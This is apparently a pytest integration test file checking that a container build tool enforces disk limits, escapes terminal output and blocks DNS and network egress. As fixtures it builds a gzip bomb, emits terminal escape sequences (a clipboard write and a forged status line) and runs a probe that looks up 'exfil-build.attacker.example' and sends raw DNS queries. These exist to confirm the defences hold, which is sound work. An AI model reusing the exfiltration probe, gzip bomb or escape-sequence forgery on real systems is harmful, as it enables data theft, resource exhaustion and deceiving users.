"""``orchestrator build``'s limits on the real engine, every RUN under gVisor (as root).

What a step adds to its layer is counted whole (a step of many small files is stopped at
``--disk``), the steps of a build together stop at ``--disk-total``, a sparse ``COPY`` and
a gzip bomb ``ADD`` are refused before anything is written and leave nothing in the host's
temporary folder; what a step prints never drives the terminal; an allowlisted step sends
no DNS query out of its namespace, ``RUN --network=none`` gets no network at all, and a
missing host firewall rule is said once per build. See docs/build.md.
"""

from __future__ import annotations

import gzip
import hashlib
import io
import json
import os
import subprocess
import sys
import tarfile
import time
from pathlib import Path

import pytest

from orchestrator.docker.egress import BRIDGE_PREFIX
from orchestrator.docker.images import WORKER_IMAGE
from orchestrator.docker.netnames import RUN_PREFIX
from tests.host_firewall import without_the_host_rule
from tests.integration.conftest import wait_until
from tests.integration.pkgservice import PORT as PKG_PORT
from tests.integration.test_build import _audit, build_networks_left, builds, docker, packages
from tests.integration.test_egress import PortCounter
from tests.integration.test_terminal import in_terminal

pytestmark = pytest.mark.docker
__all__ = ["builds", "packages"]  # fixtures

MIB = 1 << 20


def no_images(builds) -> bool:
    return not docker("images", "-aq", "--filter", f"label=test.mark={builds.marker}").stdout


def test_a_step_writing_many_small_files_past_the_disk_limit_is_stopped(builds):
    # 3,000 empty files: nothing in the engine's size of the layer, 3,000 entries on disk.
    done = builds(
        "FROM @BASE@\nUSER root\nLABEL test.mark=@MARK@\n"
        "RUN python3 -c \"import os; os.mkdir('/many'); "
        "[os.close(os.open('/many/f%d' % n, os.O_CREAT | os.O_WRONLY)) for n in range(3000)]\"\n",
        "--disk", "4m", "--no-cache", timeout=900,
    )  # fmt: skip
    assert done.returncode == 125, done.stderr[-2000:]
    assert (
        "Dockerfile:4: RUN: added more than the step's disk limit (4 MiB, --disk) to its "
        "layer (files, folders and links all counted): stopped" in done.stderr
    ), done.stderr[-2000:]
    assert no_images(builds)


def test_steps_each_under_the_step_limit_stop_at_the_build_s_budget(builds):
    steps = "".join(f"RUN dd if=/dev/zero of=/f{n} bs=1M count=40\n" for n in range(4))
    done = builds(
        f"FROM @BASE@\nUSER root\nLABEL test.mark=@MARK@\n{steps}",
        "--disk", "48m", "--disk-total", "100m", "--no-cache", timeout=900,
    )  # fmt: skip
    assert done.returncode == 125, done.stderr[-2000:]
    said = done.stderr.strip().splitlines()[-1]
    assert said.startswith(f"orchestrator: error: {builds.context}/Dockerfile:6: RUN: added "
                           "more than what is left of the build's disk budget ("), said  # fmt: skip
    assert "of 100 MiB, --disk-total; the steps before it added 80 MiB)" in said, said
    assert no_images(builds)
    # Each under its own limit, and within the budget: built.
    again = builds(f"FROM @BASE@\nUSER root\nLABEL test.mark=@MARK@\n{steps}",
                   "--disk", "48m", "--disk-total", "200m", timeout=900)  # fmt: skip
    assert again.returncode == 0, again.stderr[-2000:]


@pytest.mark.parametrize("kind", ["sparse COPY", "gzip bomb ADD"])
def test_a_sparse_copy_and_a_gzip_bomb_add_are_refused_before_anything_is_written(
    builds, project, tmp_path, kind
):
    context: Path = builds.context
    if kind == "sparse COPY":
        with open(context / "sparse", "wb") as handle:
            handle.truncate(200 * MIB)
        line, said = "COPY sparse /sparse", "COPY: adds at least 200 MiB"
    else:
        raw = io.BytesIO()
        with tarfile.open(fileobj=raw, mode="w") as tar:
            info = tarfile.TarInfo("zeros")
            info.size = 200 * MIB
            tar.addfile(info, io.BytesIO(bytes(info.size)))
        (context / "bomb.tar.gz").write_bytes(gzip.compress(raw.getvalue(), 9))
        assert (context / "bomb.tar.gz").stat().st_size < 256 << 10  # 199 KiB here
        line = "ADD bomb.tar.gz /opt/"
        said = f"ADD: {context}/bomb.tar.gz unpacks to at least 200 MiB"
    # The build's temporary folder (TMPDIR): nothing staged there, nothing left.
    own = tmp_path / "build-tmp"
    own.mkdir()
    (context / "Dockerfile").write_text(
        f"FROM {WORKER_IMAGE}\nLABEL test.mark={builds.marker}\n{line}\n"
    )
    began = time.monotonic()
    done = subprocess.run(
        [sys.executable, "-m", "orchestrator", "build", str(context), "--project",
         str(project.root), "--disk", "32m"],
        capture_output=True, text=True, timeout=300, check=False,
        env={**os.environ, "TMPDIR": str(own)},
    )  # fmt: skip
    assert done.returncode == 125, done.stderr
    last = done.stderr.strip().splitlines()[-1]
    assert last.startswith(f"orchestrator: error: {context}/Dockerfile:3: {said}"), last
    assert last.endswith(
        "(apparent sizes, a block per entry): more than the step's disk limit (32 MiB, "
        "--disk) to its layer: nothing was written"
    ), last
    assert time.monotonic() - began < 120
    assert list(own.iterdir()) == []
    assert no_images(builds)


#: A step's output that would drive a terminal: a clipboard write (OSC 52), a clear
#: screen, and a line erased and rewritten as the orchestrator's own.
FORGED = "orchestrator: built 000000000000 as you/wanted:latest"
SEQUENCES = (
    "printf 'clip \\033]52;c;SGVsbG8=\\007 done\\n'; printf '\\033[2J\\033[H'; "
    f"printf '\\033[2K\\033[1G{FORGED}\\n'"
)


def test_what_a_step_prints_is_shown_escaped_on_a_terminal(builds, project):
    (builds.context / "Dockerfile").write_text(
        f"FROM {WORKER_IMAGE}\nLABEL test.mark={builds.marker}\nRUN {SEQUENCES}\n"
    )
    code, seen = in_terminal("build", str(builds.context), "--project", str(project.root),
                             "--no-cache", timeout=300)  # fmt: skip
    assert code == 0, seen
    for raw in (b"\x1b", b"\x07"):
        assert raw not in seen, seen
    text = seen.decode()
    assert "  | clip \\x1b]52;c;SGVsbG8=\\x07 done\n" in text, text
    assert f"  | \\x1b[2J\\x1b[H\\x1b[2K\\x1b[1G{FORGED}\n" in text, text
    # The real line starts a line of its own; the forged one never does.
    lines = text.splitlines()
    assert not [ln for ln in lines if ln.startswith(FORGED)]
    assert len([ln for ln in lines if ln.startswith("orchestrator: built ")]) == 1
    # Through a pipe the bytes are the step's own (as a run's output is).
    piped = builds(f"FROM @BASE@\nLABEL test.mark=@MARK@\nRUN {SEQUENCES}\n",
                   "--no-cache")  # fmt: skip
    assert piped.returncode == 0, piped.stderr
    assert "\x1b]52;c;SGVsbG8=\x07" in piped.stderr


#: Sleeps while the test starts counting on the build network's bridge, then looks an
#: outside name up every way it can (the C library, UDP and TCP to the engine's DNS),
#: finds the proxy by name, fetches through it, and sends one datagram to the gateway's
#: port 9 (the control: it leaves the namespace). One line, ``PROBE {json}``.
DNS_PROBE = r"""
import json, os, socket, struct, sys, time, urllib.error, urllib.request
time.sleep(12)
out = {"resolv": open("/etc/resolv.conf").read().split()}
try:
    socket.getaddrinfo("exfil-build.attacker.example", 80)
    out["lookup"] = "resolved"
except OSError:
    out["lookup"] = "failed"
name = b"".join(bytes([len(p)]) + p for p in (b"exfil-raw-build", b"example"))
query = struct.pack("!HHHHHH", 0x4242, 0x0100, 1, 0, 0, 0) + name + b"\0" + struct.pack("!HH", 1, 1)
for kind in ("udp", "tcp"):
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM if kind == "udp" else socket.SOCK_STREAM)
    sock.settimeout(4)
    try:
        if kind == "udp":
            sock.sendto(query, ("127.0.0.11", 53))
            answer = sock.recv(512)
        else:
            sock.connect(("127.0.0.11", 53))
            sock.sendall(struct.pack("!H", len(query)) + query)
            answer = sock.recv(514)[2:]
        out[kind] = "rcode %d, %d answers" % (answer[3] & 15, struct.unpack("!H", answer[6:8])[0])
    except OSError as exc:
        out[kind] = type(exc).__name__
    finally:
        sock.close()
out["proxy"] = socket.gethostbyname("proxy")
for attempt in range(5):  # (the shared proxy may answer 502 while it learns a new network)
    try:
        with urllib.request.urlopen(sys.argv[1], timeout=30) as answer:
            out["fetch"] = answer.status
        break
    except urllib.error.HTTPError as exc:
        out["fetch"] = exc.code
        time.sleep(2)
gateway = None
for line in open("/proc/net/route").read().splitlines()[1:]:
    fields = line.split()
    if fields[1] == "00000000":
        gateway = socket.inet_ntoa(struct.pack("<L", int(fields[2], 16)))
out["gateway"] = gateway
sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for _ in range(6):  # spaced: the first may wait for the gateway's address to resolve
    sock.sendto(b"control", (gateway, 9))
    time.sleep(0.5)
sock.close()
print("PROBE " + json.dumps(out), flush=True)
"""


def test_no_dns_query_leaves_an_allowlisted_build_step_s_namespace(builds, project, packages):
    assert os.geteuid() == 0, "counting packets on the bridge needs root"
    (builds.context / "probe.py").write_text(DNS_PROBE)
    (builds.context / "Dockerfile").write_text(
        f"FROM {WORKER_IMAGE}\nLABEL test.mark={builds.marker}\nCOPY probe.py /probe.py\n"
        f"RUN python3 /probe.py http://pkgs.{packages}:{PKG_PORT}/file.txt\n"
    )
    seen_before = {e["run_id"] for e in _audit(project) if e["operation"] == "build.started"}
    build = subprocess.Popen(
        [sys.executable, "-m", "orchestrator", "build", str(builds.context), "--project",
         str(project.root), "--no-cache"],
        stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
    )  # fmt: skip
    counter = None
    try:

        def started() -> list[str]:
            return [
                e["run_id"]
                for e in _audit(project)
                if e["operation"] == "build.started" and e["run_id"] not in seen_before
            ]

        assert wait_until(lambda: started(), 120), build.poll()
        network = f"{RUN_PREFIX}build-{started()[0]}"
        bridge = BRIDGE_PREFIX + hashlib.sha256(network.encode()).hexdigest()[:11]
        state = Path(f"/sys/class/net/{bridge}/operstate")
        # Up once the proxy is attached (a packet socket on a bridge still down reads nothing).
        assert wait_until(lambda: state.exists() and state.read_text().strip() == "up", 180), (
            build.poll()
        )
        counter = PortCounter(bridge, (53, 9))
        _out, err = build.communicate(timeout=600)
    finally:
        if build.poll() is None:
            build.kill()
            build.communicate()
        counts = counter.stop() if counter is not None else {}
        frames = counter.frames if counter is not None else 0
    assert build.returncode == 0, err[-3000:]
    (probe,) = [ln.split("PROBE ", 1)[1] for ln in err.splitlines() if "| PROBE " in ln]
    seen = json.loads(probe)
    assert seen["resolv"][:2] == ["nameserver", "127.0.0.11"], seen
    assert seen["lookup"] == "failed", seen
    assert not seen["udp"].endswith(" 1 answers") and not seen["tcp"].endswith(" 1 answers")
    assert seen["fetch"] == 200 and seen["proxy"].count(".") == 3, seen
    assert counts[9] >= 3, (counts, frames, seen)  # the step's datagrams were seen leaving
    assert counts[53] == 0, (counts, seen)
    assert not build_networks_left(project)


#: Reports the step's interfaces, whether it has the proxy's variables, and whether the
#: proxy answers by name or through the variables a step on the network would get.
CLOSED_PROBE = r"""
import json, os, socket, urllib.request
out = {"nets": sorted(n for _, n in socket.if_nameindex()),
       "proxy_env": sorted(k for k in os.environ if "proxy" in k.lower())}
try:
    out["proxy"] = socket.gethostbyname("proxy")
except OSError:
    out["proxy"] = "unresolved"
opener = urllib.request.build_opener(urllib.request.ProxyHandler({"http": "http://proxy:3128"}))
try:
    opener.open("http://pkgs.test/", timeout=10)
    out["fetch"] = "answered"
except Exception as exc:
    out["fetch"] = type(exc).__name__
print("CLOSED " + json.dumps(out), flush=True)
"""


def test_run_network_none_in_an_allowlisted_project_gets_no_network_at_all(
    builds, project, packages
):
    (builds.context / "closed.py").write_text(CLOSED_PROBE)
    url = f"http://pkgs.{packages}:{PKG_PORT}/file.txt"
    done = builds(
        "FROM @BASE@\nLABEL test.mark=@MARK@\nCOPY closed.py /closed.py\n"
        "RUN --network=none python3 /closed.py\n"
        f"RUN python3 -c \"import urllib.request as u; print('OPEN', u.urlopen('{url}', "
        "timeout=30).status)\"\n",
        "--no-cache",
    )  # fmt: skip
    assert done.returncode == 0, done.stderr[-3000:]
    (line,) = [ln.split("CLOSED ", 1)[1] for ln in done.stderr.splitlines() if "| CLOSED " in ln]
    seen = json.loads(line)
    assert seen == {"nets": ["lo"], "proxy_env": [], "proxy": "unresolved",
                    "fetch": "URLError"}, seen  # fmt: skip
    assert "  | OPEN 200" in done.stderr  # the next step, on the allowlist, still reaches it
    egress = [e for e in _audit(project) if e["operation"] == "build.egress"]
    assert {e["metadata"]["line"] for e in egress} == {5}, egress


@pytest.mark.serial  # it takes the host firewall rule away for a while
def test_a_missing_host_firewall_rule_is_said_once_per_allowlisted_build(builds, packages):
    dockerfile = "FROM @BASE@\nLABEL test.mark=@MARK@\nRUN true\nRUN true\n"
    with without_the_host_rule():
        done = builds(dockerfile, "--no-cache")
        assert done.returncode == 0, done.stderr[-2000:]
        assert done.stderr.count("firewall rule is missing") == 1, done.stderr
        assert (
            "orchestrator: warning: allowlisted build steps can reach services on this host "
            "through the build network's gateway" in done.stderr
        )


def test_what_fits_is_streamed_in_whole_and_leaves_no_temporary_file(builds, project, tmp_path):
    """A 40 MiB file, a folder of small files and an archive with a link and a hard link,
    under limits they fit in: in the image as they were, nothing in the build's TMPDIR."""
    context: Path = builds.context
    big = os.urandom(1 << 20) * 40
    (context / "big.bin").write_bytes(big)
    (context / "small").mkdir()
    for n in range(200):
        (context / "small" / f"s{n}.txt").write_text(f"{n}\n")
    raw = io.BytesIO()
    with tarfile.open(fileobj=raw, mode="w:gz") as tar:
        folder = tarfile.TarInfo("pkg")
        folder.type, folder.mode = tarfile.DIRTYPE, 0o755
        tar.addfile(folder)
        info = tarfile.TarInfo("pkg/data.txt")
        info.size = 6
        tar.addfile(info, io.BytesIO(b"inside"))
        link = tarfile.TarInfo("pkg/soft")
        link.type, link.linkname = tarfile.SYMTYPE, "data.txt"
        tar.addfile(link)
        hard = tarfile.TarInfo("pkg/hard")
        hard.type, hard.linkname = tarfile.LNKTYPE, "pkg/data.txt"
        tar.addfile(hard)
    (context / "pkg.tar.gz").write_bytes(raw.getvalue())
    own = tmp_path / "build-tmp"
    own.mkdir()
    tag = f"orchestrator-test/build-{builds.marker}:fits"
    (context / "Dockerfile").write_text(
        f"FROM {WORKER_IMAGE}\nLABEL test.mark={builds.marker}\nCOPY big.bin /big.bin\n"
        "COPY small /small\nADD --chown=1000:1000 pkg.tar.gz /opt/\n"
    )
    done = subprocess.run(
        [sys.executable, "-m", "orchestrator", "build", str(context), "--project",
         str(project.root), "-t", tag, "--disk", "48m", "--disk-total", "64m", "--no-cache"],
        capture_output=True, text=True, timeout=600, check=False,
        env={**os.environ, "TMPDIR": str(own)},
    )  # fmt: skip
    try:
        assert done.returncode == 0, done.stderr[-2000:]
        assert list(own.iterdir()) == []
        shown = docker("run", "--rm", "--entrypoint", "sh", tag, "-c",
                       "sha256sum /big.bin | cut -c1-64; ls /small | wc -l; cat /small/s7.txt; "
                       "cd /opt/pkg; readlink soft; cat hard; echo; stat -c '%u %h' data.txt")  # fmt: skip
        assert shown.stdout.split("\n")[:6] == [
            hashlib.sha256(big).hexdigest(),
            "200",
            "7",
            "data.txt",
            "inside",
            "1000 2",
        ], shown.stdout + shown.stderr
    finally:
        docker("rmi", "-f", tag)
